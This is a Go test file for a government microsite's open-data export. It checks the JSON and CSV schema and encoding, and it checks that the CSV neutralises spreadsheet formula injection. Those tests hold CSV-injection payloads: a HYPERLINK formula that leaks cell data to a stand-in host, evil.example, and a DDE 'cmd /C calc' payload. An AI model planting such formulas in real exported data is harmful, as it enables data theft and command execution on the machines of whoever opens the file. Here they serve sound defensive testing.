package build

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/gzgov/nansha-microsite/internal/content"
	"github.com/gzgov/nansha-microsite/internal/site"
)

// TestOpenDataGolden pins the schema and encoding of measures.json and
// measures.csv on a small site whose text needs quoting and escaping.
func TestOpenDataGolden(t *testing.T) {
	for _, base := range []string{"", "https://www.gz.gov.cn/nansha3/"} {
		files := readTree(t, buildTree(t, sourceTree(t, with(smallSite, map[string]string{"site.toml": withBaseURL(t, base)}))))
		suffix := ""
		if base != "" {
			suffix = "-base_url"
		}
		golden(t, "opendata/measures"+suffix+".json", files[site.DataJSONPath])
		if base == "" { // the CSV has no URLs
			golden(t, "opendata/measures.csv", files[site.DataCSVPath])
		}
	}
}

// TestOpenDataComplete checks every measure of the real site, field by
// field, in both files.
func TestOpenDataComplete(t *testing.T) {
	s, err := content.Load(os.DirFS(repo))
	if err != nil {
		t.Fatal(err)
	}
	files := readTree(t, buildTree(t, repo))

	var data struct {
		Notice     map[string]string
		Categories []struct {
			Slug     string
			Measures []int
		}
		Measures []struct {
			Number                      int
			Title, Scope, Content, Page string
			ContentMarkdown             string `json:"content_markdown"`
			Category                    struct{ Slug, Name string }
			LeadUnits                   []struct{ Slug, Name string } `json:"lead_units"`
		}
	}
	if err := json.Unmarshal(files[site.DataJSONPath], &data); err != nil {
		t.Fatalf("measures.json: %v", err)
	}
	n := s.Notice
	wantNotice := map[string]string{"number": n.Number, "title": n.Title, "addressees": n.Addressees, "issuer": n.Issuer,
		"date": "2018-07-02", "attachment": n.Attachment, "language": s.Language, "page": "index.html"}
	if !mapsEqual(data.Notice, wantNotice) {
		t.Errorf("notice: %v\nwant %v", data.Notice, wantNotice)
	}
	if len(data.Categories) != len(s.Categories) {
		t.Errorf("%d categories, want %d", len(data.Categories), len(s.Categories))
	}
	if len(data.Measures) != len(s.Measures) {
		t.Fatalf("%d measures, want %d", len(data.Measures), len(s.Measures))
	}

	raw := files[site.DataCSVPath]
	if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf")) {
		t.Error("measures.csv does not start with a UTF-8 BOM")
	}
	if bytes.Count(raw, []byte("\n")) != bytes.Count(raw, []byte("\r\n")) {
		t.Error("measures.csv has a line end that is not CRLF (RFC 4180)")
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatalf("measures.csv: %v", err)
	}
	if want := []string{"序號", "分類", "項目名稱", "實施內容", "牽頭單位", "推廣范圍"}; !slices.Equal(rows[0], want) {
		t.Errorf("header %q, want %q", rows[0], want)
	}
	if len(rows) != len(s.Measures)+1 {
		t.Fatalf("%d rows, want a header and %d measures", len(rows), len(s.Measures))
	}

	for i, m := range s.Measures {
		d := data.Measures[i]
		var units, slugs, dUnits, dSlugs []string
		for _, u := range m.Units {
			units, slugs = append(units, u.Name), append(slugs, u.Slug)
		}
		for _, u := range d.LeadUnits {
			dUnits, dSlugs = append(dUnits, u.Name), append(dSlugs, u.Slug)
		}
		if d.Number != m.Number || d.Title != m.Title || d.Scope != m.Scope || d.Page != m.Path() ||
			d.Category.Slug != m.Category.Slug || d.Category.Name != m.Category.Name ||
			!slices.Equal(dUnits, units) || !slices.Equal(dSlugs, slugs) ||
			d.Content == "" {
			t.Errorf("measure %d in measures.json: %+v", m.Number, d)
		}
		want := []string{strconv.Itoa(m.Number), m.Category.Name, m.Title, d.Content, strings.Join(units, "、"), m.Scope}
		if !slices.Equal(rows[i+1], want) {
			t.Errorf("measures.csv row %d: %q\nwant %q", i+1, rows[i+1], want)
		}
	}
}

func mapsEqual(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if w, ok := b[k]; !ok || w != v {
			return false
		}
	}
	return true
}

// TestCSVFormulaCells builds measures whose texts a spreadsheet would run
// as formulas: in measures.csv each such cell starts with ', which makes it
// text; measures.json keeps the texts as written.
func TestCSVFormulaCells(t *testing.T) {
	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"點擊")`
	src := sourceTree(t, map[string]string{
		"content/measures/": "",
		"content/measures/01.md": "+++\nnumber = 1\ntitle = '" + hyperlink + "'\ncategory = \"investment\"\n" +
			"lead_units = [\"市政務辦\"]\nscope = \"-市有關行政區\"\n+++\n\n@SUM(1+1)*cmd|' /C calc'!A0\n",
		"content/measures/02.md": "+++\nnumber = 2\ntitle = \"+1 加一\"\ncategory = \"trade\"\n" +
			"lead_units = [\"廣州海關\"]\nscope = \"\\t=1+1\"\n+++\n\n正文不以公式開頭,=1 在中間。\n",
	})
	replaceIn(t, src, "site.toml", `name = "投資便利化"`, `name = "=投資便利化"`)
	files := readTree(t, buildTree(t, src))

	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(files[site.DataCSVPath], []byte(bom)))).ReadAll()
	if err != nil {
		t.Fatalf("measures.csv: %v", err)
	}
	want := [][]string{
		{"1", "'=投資便利化", "'" + hyperlink, "'@SUM(1+1)*cmd|' /C calc'!A0", "市政務辦", "'-市有關行政區"},
		{"2", "貿易便利化", "'+1 加一", "正文不以公式開頭,=1 在中間。", "廣州海關", "'\t=1+1"},
	}
	if len(rows) != 3 {
		t.Fatalf("measures.csv: %d rows, want a header and 2", len(rows))
	}
	for i, w := range want {
		if !slices.Equal(rows[i+1], w) {
			t.Errorf("measures.csv row %d:\n got %q\nwant %q", i+1, rows[i+1], w)
		}
	}

	var data struct {
		Measures []struct {
			Title, Scope, Content string
			Category              struct{ Name string }
		}
	}
	if err := json.Unmarshal(files[site.DataJSONPath], &data); err != nil {
		t.Fatalf("measures.json: %v", err)
	}
	m := data.Measures[0]
	if m.Title != hyperlink || m.Scope != "-市有關行政區" || m.Content != "@SUM(1+1)*cmd|' /C calc'!A0" || m.Category.Name != "=投資便利化" {
		t.Errorf("measures.json changed the texts: %+v", m)
	}
	if m := data.Measures[1]; m.Title != "+1 加一" || m.Scope != "\t=1+1" {
		t.Errorf("measures.json changed the texts: %+v", m)
	}
}

func TestTextCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"報關單", "報關單"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "'=1"}, // a leading ' already makes it text
		{"1=1", "1=1"},
		{" =1", " =1"},
	}
	for _, tt := range tests {
		if got := textCell(tt.in); got != tt.want {
			t.Errorf("textCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}
